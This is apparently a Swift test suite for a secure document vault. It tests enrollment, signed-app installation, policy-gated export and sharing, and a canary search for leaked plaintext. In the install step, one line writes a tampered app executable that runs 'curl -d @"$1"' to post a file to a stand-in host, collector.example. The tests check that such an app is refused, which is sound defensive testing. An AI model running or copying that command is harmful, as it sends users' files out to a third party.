import Foundation
import Testing

/// The main job, as a company, a person and two apps have it: from an encrypted file to an approved app.
@Suite struct MainJobTests {
  let desk: Desk
  let server: RunningServer
  let canary = "CANARY-\(UUID().uuidString)"

  init() throws {
    desk = try Desk()
    server = try RunningServer(at: desk)
  }

  @Test func `a file reaches the approved app, and nothing else`() async throws {
    try desk.write("password", "four words for acme\n")
    #expect(
      UUID(
        uuidString: try server.administer(
          "admin", "create", "--tenant", "Acme", "--email", "owner@example.com", "--password-file", "password")) != nil)
    let acme = try Team("acme", at: desk)
    let stranger = try Team("stranger", at: desk)
    let item = try await server.approve(
      "com.acme.editor", teamId: "ACME", teamKey: acme.key, extensions: [".pdf", ".docx"])

    #expect(try desk.done("init").value.count == 32)
    #expect(try desk.done("enroll", server.url, server.enrollmentCode()).output.contains("you may"))
    try install(acme, stranger)

    let pdf = try originals()
    try desk.done("mkdir", "-p", "/Work/\(canary)")
    try desk.done("put", "originals/\(canary).pdf", "originals/handbook.docx", "/Work")
    let listed = try desk.done("ls", "-R").output
    #expect(listed.contains("Work/\(canary).pdf\n") && listed.contains("Work/handbook.docx\n"))

    try await takeOut()
    let delivered = try share(pdf)
    #expect(try await server.request("DELETE", "/items/\(item)").status == 204)
    // Until the device asks, it holds to what it was told last.
    try desk.done("policy", "refresh")
    try refuseShare("/Work/\(canary).pdf", with: "com.acme.editor", "not approved", rule: "default")
    #expect(try desk.done("apps").output.contains("receives nothing"))

    let log = server.stop()
    #expect(log.code == 0)
    #expect(!log.errors.contains(Desk.passcode) && !log.errors.contains("com.acme.editor"))
    try searchEverything(delivered)
  }

  private func install(_ acme: Team, _ stranger: Team) throws {
    let editor = try acme.sign("editor", bundleId: "com.acme.editor", teamId: "ACME")
    let viewer = try stranger.sign("viewer", bundleId: "com.example.viewer", teamId: "STRANGER")
    let forged = try stranger.sign("forged", bundleId: "com.acme.editor", teamId: "ACME")
    let altered = try acme.sign("altered", bundleId: "com.acme.editor", teamId: "ACME")
    try desk.write(acme.executable(of: "altered"), "#!/bin/sh\ncurl -d @\"$1\" https://collector.example\n")
    let unsigned = "apps-stranger/unsigned.json"
    let members = ["bundleId", "teamId", "name", "version"].map { "\"\($0)\": \"1\"" }.joined(separator: ", ")
    try desk.write(unsigned, "{\(members), \"executable\": \"viewer\", \"documentTypes\": []}")

    // A copy of another team's forgery is refused before and after the genuine app is there.
    for _ in 0..<2 {
      for (manifest, says) in [
        (forged, "another team"), (altered, "the executable is not the one"),
        (unsigned, "not signed"),
      ] {
        try desk.refused(77, says, running: ["app", "install", manifest], unchanged: ["containers"])
      }
      try desk.done("app", "install", editor)
      try desk.done("app", "install", viewer)
    }
    let apps = try desk.done("app", "list").output
    #expect(apps.contains("com.acme.editor") && apps.contains("com.example.viewer"))
  }

  /// Stores the canary, uncompressed, in a PDF that stays one; returns its bytes.
  private func originals() throws -> [UInt8] {
    try FileManager.default.createDirectory(
      atPath: desk.path("originals"), withIntermediateDirectories: false, attributes: nil)
    let bytes = try Documents.bytes("notice-libreoffice.pdf")
    let end = try #require(Data(bytes).range(of: Data("startxref".utf8), options: .backwards)).lowerBound
    // A comment there moves nothing that the file points to.
    let pdf = bytes[..<end] + Array("% \(canary)\n".utf8) + bytes[end...]
    try desk.write("originals/\(canary).pdf", Array(pdf))
    try desk.write("originals/handbook.docx", try Documents.bytes("handbook-libreoffice.docx"))
    return Array(pdf)
  }

  private func takeOut() async throws {
    let get = ["get", "/Work/\(canary).pdf", "/Work/handbook.docx", "out"]
    let revision = try revision()
    for command in [
      get, ["get", "-r", "/Work", "out"], ["get", "/Work/handbook.docx", "-"], ["cat", "/Work/handbook.docx"],
    ] {
      try desk.refused(
        77, "saveCopy", "does not allow it to the device's owner", "rule settings:ownerActions",
        "policy revision \(revision)", running: command, unchanged: ["out"])
    }
    try await server.allowOwner(["import", "view", "edit", "saveCopy"])
    try desk.done("policy", "refresh")
    #expect(try self.revision() > revision)
    try desk.done("get", "/Work/\(canary).pdf", "/Work/handbook.docx", "out")
    #expect(try desk.read("out/\(canary).pdf") == desk.read("originals/\(canary).pdf"))
    #expect(try desk.read("out/handbook.docx") == desk.read("originals/handbook.docx"))
    try desk.remove("out/\(canary).pdf")

    try await server.allowOwner(["view", "edit"])
    try desk.done("policy", "refresh")
    try desk.refused(77, "saveCopy", "rule settings:ownerActions", running: get, unchanged: ["out"])
    try desk.refused(
      77, "import", "rule settings:ownerActions", running: ["put", "originals/handbook.docx", "/second.docx"],
      unchanged: ["vault/objects"])
    #expect(try !desk.done("ls").output.contains("second"))
  }

  private func revision() throws -> Int {
    let info = try JSONSerialization.jsonObject(with: Data(try desk.done("info", "--json").bytes)) as? [String: Any]
    return try #require(info?["policyRevision"] as? Int)
  }

  private func share(_ pdf: [UInt8]) throws -> String {
    let apps = try desk.done("apps").output
    #expect(apps.contains("com.acme.editor  App editor  receives .docx .pdf"))
    #expect(apps.contains("com.example.viewer  App viewer  receives nothing"))
    let delivered = try desk.done("share", "/Work/\(canary).pdf", "--with", "com.acme.editor").value
    #expect(delivered.hasPrefix(desk.path("containers/")) && delivered.hasSuffix("/Documents/Inbox/\(canary).pdf"))
    #expect(try desk.read(delivered) == pdf)
    #expect(try permissions(delivered) == 0o400)
    // An office program's own file, and never in place of what is there.
    let first = try desk.done("share", "/Work/handbook.docx", "--with", "com.acme.editor").value
    let second = try desk.done("share", "/Work/handbook.docx", "--with", "com.acme.editor").value
    #expect(first.hasSuffix("/handbook.docx") && second.hasSuffix("/handbook-2.docx"))

    try refuseShare("/Work/\(canary).pdf", with: "com.example.viewer", "not approved", rule: "default")
    try desk.refused(
      66, "no app with this bundle id", running: ["share", "/Work/\(canary).pdf", "--with", "com.absent"],
      unchanged: ["containers"])
    try desk.done("mv", "/Work/\(canary).pdf", "/Work/report.docx")
    try refuseShare(
      "/Work/report.docx", with: "com.acme.editor", "content is not what its extension says", rule: "content")
    try desk.done("mv", "/Work/report.docx", "/Work/\(canary).pdf")

    // An app that changed after it was installed is not that app any more.
    let executable = "apps-acme/editor"
    let genuine = try desk.read(executable)
    try desk.write(executable, genuine + Array("exit 1\n".utf8))
    try desk.refused(
      77, "executable", running: ["share", "/Work/handbook.docx", "--with", "com.acme.editor"],
      unchanged: ["containers"])
    try desk.write(executable, genuine)
    return delivered
  }

  private func refuseShare(
    _ path: String, with bundleId: String, _ reason: String, rule: String,
    sourceLocation: SourceLocation = #_sourceLocation
  ) throws {
    try desk.refused(
      77, reason, "rule \(rule)", "policy revision", running: ["share", path, "--with", bundleId],
      unchanged: ["containers", "out", "tmp"], sourceLocation: sourceLocation)
  }

  private func permissions(_ path: String) throws -> Int? {
    try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int
  }

  /// Seeks the canary in every byte and every name below the folder, and looks at who may read what.
  private func searchEverything(_ delivered: String) throws {
    let copy = String(delivered.dropFirst(desk.root.count + 1))
    let paths = FileManager.default.enumerator(atPath: desk.root)?.allObjects as? [String] ?? []
    var withContent: [String] = []
    var withName: [String] = []
    var withPasscode: [String] = []
    for path in paths {
      let full = desk.path(path)
      let attributes = try FileManager.default.attributesOfItem(atPath: full)
      let isFolder = attributes[.type] as? FileAttributeType == .typeDirectory
      if path.split(separator: "/").last.map({ $0.contains(canary) }) == true { withName.append(path) }
      if ["vault", "keys", "server", "containers"].contains(path.prefix { $0 != "/" }) {
        let permissions = try #require(attributes[.posixPermissions] as? Int)
        #expect(permissions & 0o077 == 0, "\(path) has \(String(permissions, radix: 8))")
      }
      if isFolder { continue }
      let content = try Data(contentsOf: URL(fileURLWithPath: full))
      if content.range(of: Data(canary.utf8)) != nil { withContent.append(path) }
      if content.range(of: Data(Desk.passcode.utf8)) != nil { withPasscode.append(path) }
    }
    // The search finds what is there to find.
    #expect(withContent.sorted() == [copy, "originals/\(canary).pdf"].sorted())
    #expect(withName.sorted() == [copy, "originals/\(canary).pdf"].sorted())
    #expect(withPasscode == ["passcode"])
  }
}
